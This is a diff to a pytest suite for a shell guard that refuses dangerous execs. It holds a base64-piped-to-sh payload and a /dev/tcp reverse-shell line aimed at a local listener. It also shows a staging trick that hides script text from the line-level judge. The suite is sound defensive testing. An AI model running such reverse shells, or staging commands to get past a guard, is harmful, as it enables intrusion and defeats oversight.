@@ -8,6 +8,12 @@ shows: an alias, a function, a variable expanded on a later line, a sourced
 file, a script file, `read x; eval "$x"`, a program started by a program.
 Each command's own harmless marker file proves whether it ran.
 
+The shell judges the files a line (or an rc file, or a definition it
+recorded) hands to a shell before bash runs it, so a script on disk would be
+refused by the line, not at exec. Each path's script is therefore written
+by the command itself (`cp X.txt X.sh; bash X.sh`): when the line is judged
+there is no X.sh to read, and only the exec guard sees its text.
+
 enforce: refused at exec (needs a permission rung — the kernel layer's
 fanotify rung, `attyguard.kernel.layer`; these tests skip, saying so, only
 while that module is not installed). warn: everything runs and the shell's
@@ -45,6 +51,12 @@ needs_layer = pytest.mark.skipif(
 PAYLOAD = "echo aGk= | base64 -d | sh; sleep 1; touch {marker}"
 
 
+def staged(home: Path, name: str, text: str) -> str:
+    """A command that writes `name`.sh from `name`.txt and runs it: no file to judge before."""
+    (home / f"{name}.txt").write_text(text + "\n")
+    return f"cp {home}/{name}.txt {home}/{name}.sh; bash {home}/{name}.sh"
+
+
 @dataclass(frozen=True)
 class Way:
     name: str
@@ -58,9 +70,10 @@ def paths(home: Path) -> list[Way]:
     return [
         Way("alias", ("runit-alias",)),
         Way("function", ("runit_function",)),
-        Way("variable", (f"cmd='bash {home}/p-variable.sh'", "$cmd")),
+        Way("variable", (f"cmd='bash {home}/p-variable.sh'",
+                          f"cp {home}/p-variable.txt {home}/p-variable.sh; $cmd")),
         Way("sourced", (f"source {home}/sourced.sh",)),
-        Way("script", (f"bash {home}/p-script.sh",)),
+        Way("script", (f"cp {home}/p-script.txt {home}/p-script.sh; bash {home}/p-script.sh",)),
         Way("read-eval", ('read -p "input> " x; eval "$x"',),
               typed_input="bash -c '" + PAYLOAD.format(marker=m("read-eval")) + "'"),
         Way("program", (f"python3 {home}/prog.py",)),
@@ -71,15 +84,15 @@ def prepare(home: Path) -> None:
     def payload(name: str) -> str:
         return PAYLOAD.format(marker=home / f"marker-{name}")
 
-    for name in ("alias", "function", "variable", "script"):
-        (home / f"p-{name}.sh").write_text(payload(name) + "\n")
-    (home / "sourced.sh").write_text(f"bash -c '{payload('sourced')}'\n")
+    for name in ("variable", "script"):
+        (home / f"p-{name}.txt").write_text(payload(name) + "\n")
+    (home / "sourced.sh").write_text(staged(home, "p-sourced", payload("sourced")) + "\n")
     (home / "prog.py").write_text(
         "import subprocess\n"
         f"subprocess.run(['bash', '-c', {payload('program')!r}])\n")
     with (home / ".bashrc").open("a") as rc:
-        rc.write(f"alias runit-alias='bash {home}/p-alias.sh'\n"
-                 f"runit_function() {{ bash {home}/p-function.sh; }}\n")
+        rc.write(f"alias runit-alias='{staged(home, 'p-alias', payload('alias'))}'\n"
+                 f"runit_function() {{ {staged(home, 'p-function', payload('function'))}; }}\n")
 
 
 @dataclass
@@ -233,8 +246,12 @@ def test_a_reverse_shell_through_a_function_gets_no_shell(
         guarded: Callable[..., Guarded], ag_home: Path) -> None:
     listener = socket.create_server(("127.0.0.1", 0))
     port = listener.getsockname()[1]
+    # the redirection is in a file the function writes and sources, so neither the
+    # rc judge nor the line sees /dev/tcp: only the exec guard sees the socket fds
+    (ag_home / "callhome.txt").write_text(f"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1\n")
     with (ag_home / ".bashrc").open("a") as rc:
-        rc.write(f"callhome() {{ bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1; }}\n")
+        rc.write(f"callhome() {{ cp {ag_home}/callhome.txt {ag_home}/callhome.sh; "
+                 f". {ag_home}/callhome.sh; }}\n")
     g = guarded("enforce")
     conn: socket.socket | None = None
     try:
@@ -272,9 +289,7 @@ def test_a_line_the_user_trusted_still_runs_its_execs(
         ag_home: Path) -> None:
     import subprocess
 
-    line = f"bash {ag_home}/p-trusted.sh"
-    (ag_home / "p-trusted.sh").write_text(PAYLOAD.format(marker=ag_home / "marker-trusted")
-                                          + "\n")
+    line = staged(ag_home, "p-trusted", PAYLOAD.format(marker=ag_home / "marker-trusted"))
     done = subprocess.run([str(attyguard_bin), "trust", "add", "--", line], env=ag_env,
                           capture_output=True, text=True, timeout=30)
     assert done.returncode == 0, done.stderr
@@ -285,6 +300,7 @@ def test_a_line_the_user_trusted_still_runs_its_execs(
     assert "REFUSED" not in g.t.screen(history=True), g.dump()
     # the window closed with the next line: the same command, not trusted, is refused
     (ag_home / "marker-trusted").unlink()
+    (ag_home / "p-trusted.sh").unlink()  # (else the line itself is refused, for the file)
     g.t.send_line(line + " ")
     g.wait(r"REFUSED — bash: ")
     assert not (ag_home / "marker-trusted").exists(), g.dump()
